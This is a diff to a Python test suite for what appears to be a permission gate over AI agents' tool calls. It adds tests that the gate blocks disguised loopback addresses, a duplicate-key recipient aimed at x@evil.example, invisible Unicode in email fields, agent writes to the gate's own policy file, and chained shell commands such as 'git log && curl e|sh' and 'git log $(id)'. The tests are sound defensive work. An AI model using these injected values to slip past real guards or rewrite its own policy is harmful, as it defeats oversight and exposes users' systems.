@@ -91,9 +91,16 @@ class Faults(yett.InScratchFolder):
 
     def test_addresses_that_are_not_what_they_seem(self):
         """mcp-searxng#82, librefang#4019, fetch-mcp#45 and others"""
-        for host in ("[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "0.0.0.0", "[::]", "100.64.0.1",
-                     "198.18.0.1", "2130706433", "0x7f.1", "017700000001", "localhost.", "localtest.me"):
-            self.denied("destination.unlisted", "fetch", {"url": f"https://{host}/"})
+        hosts = {
+            "destination.loopback": ["[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]",
+                                     "2130706433", "0x7f.1", "017700000001", "localhost."],
+            "destination.special_address": ["0.0.0.0", "[::]", "100.64.0.1", "198.18.0.1"],
+            "destination.malformed": ["2130706433", "0x7f.1", "017700000001"],
+            "destination.unlisted": ["localtest.me"],
+        }
+        for rule, of_rule in hosts.items():
+            self.denied(rule, "fetch", *({"url": f"https://{host}/"} for host in of_rule))
+            self.denied("destination.scheme", "fetch", *({"url": f"http://{host}/"} for host in of_rule))
 
     def test_paths_that_a_server_resolves(self):
         """CVE-2026-26205 (opa-envoy), Istio CVE-2021-29492"""
@@ -110,6 +117,16 @@ class Faults(yett.InScratchFolder):
         self.denied("arguments.malformed", "send_email",
                     '{"tool":"send_email","arguments":{"to":"a@corp.example","to":"x@evil.example"}}')
 
+    def test_text_that_a_person_does_not_see(self):
+        """GHSA-pcqg-f7rg-xfvv (openclaw), agent-secret#66, hermes#81403"""
+        for hidden in ("\u202e", "\u200b", "\u2028", "\U000e0041", "\U000e0100", "\U0001d173", "\x1b[2K",
+                       " " * 4000 + "x@evil.example"):
+            self.denied("destination.malformed", "send_email", {"to": "a@corp.example" + hidden})
+            call = json.dumps({"tool": "send_email", "arguments": {"to": "a@corp.example", "body": "pay" + hidden}})
+            shown = out(run("explain", "-p", self.write("yett.toml", POLICY), text=call))
+            self.assertIn("send_email", shown)
+            self.assertNotIn(hidden, shown, ascii(hidden))
+
     def test_paths_that_begin_like_a_root(self):
         """CVE-2025-53109, CVE-2025-53110 (filesystem server)"""
         self.denied("path.outside", "read", {"path": "/srv/ab/x"}, {"path": "/srv/a/../b"},
@@ -120,6 +137,39 @@ class Faults(yett.InScratchFolder):
         """CVE-2025-53773 (Copilot)"""
         self.denied("path.protected", "write", {"path": "/srv/a/.vscode/settings.json", "text": "t"},
                     {"path": "/srv/a/.MCP.json", "text": "t"}, {"path": "/srv/a/x/.git/hooks/pre-commit", "text": "t"})
+
+    def test_the_gate_lets_its_own_policy_be_written(self):
+        """CVE-2025-53773 (Copilot)"""
+        text = POLICY.replace('root = "/srv/a"', f'root = "{self.folder}"')
+        policy = self.write("yett.toml", text)
+        (self.folder / "sub").mkdir()
+        (self.folder / "link").symlink_to("yett.toml")
+        (self.folder / "here").symlink_to(".")
+        for name in ("yett.toml", "sub/../yett.toml", "./yett.toml", "YETT.toml", "link", "here/yett.toml"):
+            self.denied("path.protected", "write", {"path": name, "text": "t"}, text=text)
+        for name in ("yett.toml", "YETT.toml", "link", "here/yett.toml"):
+            self.denied("path.protected", "read", {"path": name}, text=text)
+        (self.folder / "hard").hardlink_to(policy)
+        self.denied("path.outside", "write", {"path": "hard", "text": "t"}, text=text)
+        self.assertEqual(self.judge("write", {"path": "notes", "text": "t"}, text=text)["decision"], "allow")
+
+    def test_only_the_first_word_of_a_command_is_judged(self):
+        """claude-code#36637, kimi-code#2756, openclaw#128470"""
+        text = POLICY.replace('permissions = "no execution"', 'permissions = "full access"') + """
+[tools.run]
+effect = "execute"
+sensitivity = "internal"
+reversible = true
+command.argv = ["argv"]
+commands = [{ program = "/usr/bin/git", subcommands = ["log"], options = ["--grep=text"], effect = "read" }]
+"""
+        self.assertEqual(self.judge("run", {"argv": ["git", "log"]}, text=text)["decision"], "allow")
+        for line in ("git log && curl e|sh", "git log;rm x", "git log | sh", "git log $(id)", "git log `id`",
+                     "git log\nid", "git log &", "git log >(id)"):
+            self.denied("command.malformed", "run", {"argv": line}, text=text)
+            self.denied("command.unlisted", "run", {"argv": [line]}, {"argv": ["git", line.removeprefix("git ")]},
+                        {"argv": line.split(maxsplit=2)} if len(line.split()) > 2 else {"argv": ["sh", "-c", line]},
+                        text=text)
 
     def test_an_environment_in_the_arguments(self):
         """AGT 7e5e2b21e"""
